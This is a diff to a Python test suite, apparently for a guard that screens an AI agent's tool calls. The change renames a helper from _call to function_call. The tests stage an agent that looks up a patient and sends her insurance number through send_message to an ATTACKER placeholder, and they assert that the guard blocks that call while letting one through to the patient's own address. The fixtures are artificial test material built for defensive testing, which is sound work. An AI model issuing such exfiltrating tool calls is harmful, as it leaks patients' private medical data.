@@ -26,7 +26,7 @@ TOOLS = [
 ]
 
 
-def _call(name: str, arguments: dict[str, Any], number: int) -> dict[str, Any]:
+def function_call(name: str, arguments: dict[str, Any], number: int) -> dict[str, Any]:
     return {
         "type": "function_call",
         "id": f"fc_{number}",
@@ -58,9 +58,9 @@ def responses_like(mail_to: str) -> FastAPI:
         outputs = [i["output"] for i in body["input"] if i.get("type") == "function_call_output"]
         if not outputs:
             output = [{"type": "reasoning", "id": "rs_1", "summary": []}]
-            output.append(_call("lookup_patient", {"name": "Ana Ruiz"}, 1))
+            output.append(function_call("lookup_patient", {"name": "Ana Ruiz"}, 1))
         elif len(outputs) == 1:
-            output = [_call("send_message", {"to": mail_to, "text": outputs[0]}, 2)]
+            output = [function_call("send_message", {"to": mail_to, "text": outputs[0]}, 2)]
         else:
             output = [_text("Done.")]
         response = {
@@ -152,7 +152,7 @@ def test_a_conversation_kept_by_the_server_is_refused_unread():
 
 
 def test_a_refused_call_goes_and_the_others_stay_as_they_were():
-    lookup = _call("lookup_patient", {"name": "Ana Ruiz"}, 1)
+    lookup = function_call("lookup_patient", {"name": "Ana Ruiz"}, 1)
     request = {
         "input": [
             {"role": "user", "content": ASK},
@@ -161,8 +161,10 @@ def test_a_refused_call_goes_and_the_others_stay_as_they_were():
         ],
         "tools": TOOLS,
     }
-    leak = _call("send_message", {"to": ATTACKER, "text": PATIENT["insurance_no"]}, 2)
-    own = _call("send_message", {"to": "ana.ruiz@fastmail.com", "text": PATIENT["insurance_no"]}, 3)
+    leak = function_call("send_message", {"to": ATTACKER, "text": PATIENT["insurance_no"]}, 2)
+    own = function_call(
+        "send_message", {"to": "ana.ruiz@fastmail.com", "text": PATIENT["insurance_no"]}, 3
+    )
     response = {"id": "r", "object": "response", "output": [_text("Sending."), leak, own]}
     screened, decisions = screen_response(Guard(), request, response)
     assert [d.blocked for d in decisions] == [True, False]
@@ -176,7 +178,7 @@ def test_a_leaking_image_is_redacted_in_a_part_and_in_a_plain_string():
     request = {
         "input": [
             {"role": "user", "content": ASK},
-            _call("lookup_patient", {"name": "Ana Ruiz"}, 1),
+            function_call("lookup_patient", {"name": "Ana Ruiz"}, 1),
             {"type": "function_call_output", "call_id": "call_1", "output": json.dumps(PATIENT)},
         ]
     }
@@ -196,12 +198,12 @@ def test_a_call_joined_to_the_inputs_last_assistant_text_is_screened():
     request = {
         "input": [
             {"role": "user", "content": ASK},
-            _call("lookup_patient", {"name": "Ana Ruiz"}, 1),
+            function_call("lookup_patient", {"name": "Ana Ruiz"}, 1),
             {"type": "function_call_output", "call_id": "call_1", "output": json.dumps(PATIENT)},
             {"role": "assistant", "content": "I will now send it."},
         ]
     }
-    leak = _call("send_message", {"to": ATTACKER, "text": PATIENT["insurance_no"]}, 2)
+    leak = function_call("send_message", {"to": ATTACKER, "text": PATIENT["insurance_no"]}, 2)
     screened, decisions = screen_response(Guard(), request, {"id": "r", "output": [leak]})
     assert [d.blocked for d in decisions] == [True]
     assert [i["type"] for i in screened["output"]] == ["message"]
